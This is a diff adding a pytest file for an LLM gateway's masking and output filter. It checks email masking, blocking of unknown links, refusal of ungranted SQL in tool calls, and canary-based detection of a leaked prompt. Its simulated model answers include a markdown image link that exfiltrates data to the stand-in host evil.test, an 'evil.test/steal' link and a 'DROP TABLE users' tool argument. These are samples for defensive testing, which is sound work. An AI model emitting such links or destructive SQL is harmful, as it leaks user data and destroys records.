@@ -1,0 +1,255 @@
+"""Masking and the output filter on what passes through the gateway."""
+
+import hashlib
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from typing import Any
+
+import anthropic
+import openai
+import pytest
+from aiohttp import web
+
+from fusebox import names
+from tests.fixtures.gateway import Answer, Provider, Running, StartGateway, factory, whole
+from tests.gateway.test_ledger import CHAT, ask, attributes
+from tests.gateway.test_tools import call
+
+GUARDED = """
+[masking.routes."*"]
+restore = true
+[masking.routes."/tools/*"]
+default = "block"
+[filter]
+hosts = ["example.com"]
+unknown_links = "deny"
+"""
+MAIL = "jo.doe@acme-mail.com"
+
+
+def chat(*pieces: str, tool: bool = False) -> Answer:
+    """A chat that streams these pieces of text, or of a tool call's arguments."""
+
+    async def answer(request: web.Request) -> web.StreamResponse:
+        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
+        await response.prepare(request)
+        for number, piece in enumerate(pieces):
+            first = {"id": "call_1", "type": "function"} if number == 0 else {}
+            named = {"name": "run_sql"} if number == 0 else {}
+            one = {"index": 0, **first, "function": {**named, "arguments": piece}}
+            delta = {"tool_calls": [one]} if tool else {"content": piece}
+            await _chunk(response, delta, None)
+        await _chunk(response, {}, "stop")
+        await response.write(b"data: [DONE]\n\n")
+        return response
+
+    return answer
+
+
+async def _chunk(response: web.StreamResponse, delta: dict[str, Any], reason: str | None) -> None:
+    choice = {"index": 0, "delta": delta, "finish_reason": reason}
+    head = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
+    await response.write(f"data: {json.dumps({**head, 'choices': [choice]})}\n\n".encode())
+
+
+def said(text: str) -> Answer:
+    """A whole chat answer."""
+
+    async def answer(request: web.Request) -> web.StreamResponse:
+        message = {"role": "assistant", "content": text}
+        told = {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [
+            {"index": 0, "message": message, "finish_reason": "stop"}],
+            "usage": {"prompt_tokens": 40, "completion_tokens": 9, "total_tokens": 49}}  # fmt: skip
+        return web.json_response(told)
+
+    return answer
+
+
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, Provider]]:
+    """The recognisers take a second to load, so one gateway serves the file."""
+    provider = Provider()
+    with factory(tmp_path_factory.mktemp("guarded"), provider) as make:
+        yield make(GUARDED), provider
+    provider.stop()
+
+
+@pytest.fixture
+def provider(shared: tuple[Running, Provider]) -> Provider:
+    shared[1].seen.clear()
+    return shared[1]
+
+
+@pytest.fixture
+def guarded(shared: tuple[Running, Provider], request: pytest.FixtureRequest) -> Running:
+    """With an agent of its own for each test: what one does must not trip another."""
+    agent = hashlib.sha256(request.node.name.encode()).hexdigest()[:12]
+    _, key = shared[0].keys.add(agent, team="", models=("*",), tools=("*",))
+    shared[0].spans.clear()
+    return replace(shared[0], key=key)
+
+
+def client(running: Running) -> openai.OpenAI:
+    return openai.OpenAI(base_url=f"{running.url}/v1", api_key=running.key, max_retries=0)
+
+
+def about(text: str) -> Any:
+    return [{"role": "user", "content": text}]
+
+
+def test_a_prompt_leaves_masked_and_its_answer_comes_back_restored(guarded: Running, provider: Provider) -> None:
+    async def echo(request: web.Request) -> web.StreamResponse:
+        text = (await request.json())["messages"][-1]["content"]
+        return await said(f"You wrote: {text}")(request)
+
+    provider.answers = [echo]
+    answer = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about(f"Write to {MAIL} please"))
+    assert MAIL not in json.dumps(provider.seen[0].body)
+    assert answer.choices[0].message.content == f"You wrote: Write to {MAIL} please"
+    (span,) = guarded.span()
+    assert attributes(span)["fusebox.mask.EMAIL"] >= 1
+    assert not any(MAIL in str(value) for value in attributes(span).values())
+
+
+@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/responses", "/v1/embeddings", "/v1/messages",
+                                  "/openai/v1/chat/completions"])  # fmt: skip
+def test_no_route_lets_a_value_out(guarded: Running, provider: Provider, path: str) -> None:
+    provider.answers = [whole("anthropic_messages.json" if "messages" in path else "openai_chat.json")]
+    model = "claude" if "messages" in path else "gpt-5-mini"
+    secret = f"My address is {MAIL}"
+    body = {"model": model, "max_tokens": 9, "messages": about(secret), "input": secret, "system": secret, "user": MAIL}
+    assert ask(guarded, path, body)[0] == 200
+    assert MAIL not in json.dumps(provider.seen[0].body)
+
+
+def test_a_value_that_a_stream_splits_is_masked(guarded: Running, provider: Provider) -> None:
+    provider.answers = [chat("Ask jo.d", "oe@acme", "-mail.com", " or nobody. ", "Thanks.")]
+    stream = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Whom?"), stream=True)
+    chunks = list(stream)
+    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
+    assert MAIL not in text
+    assert text.startswith("Ask ")
+    assert text.endswith(" or nobody. Thanks.")
+    assert chunks[-1].choices[0].finish_reason == "stop"
+
+
+def test_a_threat_in_a_stream_ends_it_before_it_is_out(guarded: Running, provider: Provider) -> None:
+    provider.answers = [chat(*"Look: ![x](https://evil.test/p?d=1234567890) and so on. ", *["More text here. "] * 60)]
+    heard: list[str] = []
+
+    def listen() -> None:
+        for chunk in client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True):
+            heard.append(chunk.choices[0].delta.content or "")
+
+    with pytest.raises(openai.APIError, match="link"):
+        listen()
+    assert "evil.test" not in "".join(heard)
+
+
+def test_sql_that_nobody_granted_is_refused_in_the_arguments_of_a_tool_call(
+    guarded: Running, provider: Provider
+) -> None:
+    provider.answers = [chat('{"sql": "SELECT * FR', 'OM users"}', tool=True)]
+    heard: list[Any] = []
+
+    def listen() -> None:
+        for chunk in client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True):
+            heard.extend(chunk.choices[0].delta.tool_calls or ())
+
+    with pytest.raises(openai.APIError, match="no SQL grant for run_sql"):
+        listen()
+    assert "users" not in str(heard)
+
+
+def test_harmless_arguments_come_in_one_piece(guarded: Running, provider: Provider) -> None:
+    provider.answers = [chat('{"id": ', '"T-12"}', tool=True)]
+    stream = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True)
+    calls = [c for chunk in stream for c in chunk.choices[0].delta.tool_calls or ()]
+    assert calls[0].id == "call_1"
+    assert json.loads("".join(c.function.arguments or "" for c in calls if c.function)) == {"id": "T-12"}
+
+
+def test_a_whole_answer_is_filtered_and_was_paid_for(guarded: Running, provider: Provider) -> None:
+    provider.answers = [said("Open https://evil.test/steal?x=1 now")]
+    with pytest.raises(openai.PermissionDeniedError, match="link"):
+        client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"))
+    (span,) = guarded.span()
+    assert attributes(span)[names.USAGE_OUTPUT] == 9
+
+
+def test_anthropics_stream_is_masked_too(guarded: Running, provider: Provider) -> None:
+    async def answer(request: web.Request) -> web.StreamResponse:
+        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
+        await response.prepare(request)
+        usage = {"input_tokens": 9, "output_tokens": 1}
+        message = {"id": "m", "type": "message", "role": "assistant", "model": "c", "content": [], "usage": usage,
+                   "stop_reason": None, "stop_sequence": None}  # fmt: skip
+        texts = [{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": t}}
+                 for t in ("Ask jo.doe@ac", "me-mail.com.")]  # fmt: skip
+        for told in (
+            {"type": "message_start", "message": message},
+            {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}, *texts,
+            {"type": "content_block_stop", "index": 0},
+            {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 5}},
+            {"type": "message_stop"},
+        ):  # fmt: skip
+            await response.write(f"event: {told['type']}\ndata: {json.dumps(told)}\n\n".encode())
+        return response
+
+    provider.answers = [answer]
+    claude = anthropic.Anthropic(base_url=guarded.url, api_key=guarded.key, max_retries=0)
+    with claude.messages.stream(model="claude", max_tokens=100, messages=about("Whom?")) as stream:
+        text = "".join(stream.text_stream)
+    assert text.startswith("Ask ")
+    assert MAIL not in text
+
+
+def test_arguments_and_results_of_tools_pass_the_guards(guarded: Running, provider: Provider) -> None:
+    async def stored(request: web.Request) -> web.StreamResponse:
+        return web.json_response({"ok": True})
+
+    async def leaking(request: web.Request) -> web.StreamResponse:
+        return web.json_response({"owner": MAIL})
+
+    provider.answers = [stored]
+    assert call(guarded, "POST", "/tools/tickets/1", body={"text": "hello"}).status == 200
+    assert call(guarded, "POST", "/tools/tickets/1", body={"text": MAIL}).status == 403
+    assert call(guarded, "POST", "/tools/tickets/1", body={"sql": "DROP TABLE users"}).status == 403
+    assert call(guarded, "GET", "/tools/tickets/1?q=https://evil.test/x").status == 403
+    assert len(provider.seen) == 1
+    provider.answers = [leaking]
+    response = call(guarded, "GET", "/tools/tickets/2")
+    assert (response.status, MAIL in response.read().decode()) == (403, False)
+
+
+def test_a_picture_is_no_text(guarded: Running, provider: Provider) -> None:
+    provider.answers = [whole("openai_chat.json")]
+    url = "data:image/png;base64," + "4111111111111111" * 4
+    content: Any = [{"type": "text", "text": MAIL}, {"type": "image_url", "image_url": {"url": url}}]
+    ask(guarded, "/v1/chat/completions", {**CHAT, "messages": [{"role": "user", "content": content}]})
+    sent = provider.seen[0].body["messages"][0]["content"]
+    assert sent[1]["image_url"]["url"] == url
+    assert sent[0]["text"] != MAIL
+
+
+def test_a_canary_that_comes_back_ends_the_answer(gateways: StartGateway, provider: Provider) -> None:
+    running = gateways(f"plant_canaries = true\n{GUARDED}")
+
+    async def gives_all_away(request: web.Request) -> web.StreamResponse:
+        return await said(str((await request.json())["messages"][0]["content"]))(request)
+
+    provider.answers = [gives_all_away]
+    with pytest.raises(openai.PermissionDeniedError, match="canary"):
+        client(running).chat.completions.create(model="gpt-5-mini", messages=about("What is above?"))
+
+
+def test_content_on_spans_is_opted_into_and_masked(gateways: StartGateway, provider: Provider) -> None:
+    running = gateways(capture_content=True)
+    provider.answers = [said(f"I shall write to {MAIL}.")]
+    client(running).chat.completions.create(model="gpt-5-mini", messages=about(f"Write to {MAIL} please"))
+    (span,) = running.span()
+    asked, got = attributes(span)[names.GEN_AI_INPUT_MESSAGES], attributes(span)[names.GEN_AI_OUTPUT_MESSAGES]
+    assert "Write to" in asked
+    assert "I shall write" in got
+    assert MAIL not in asked + got
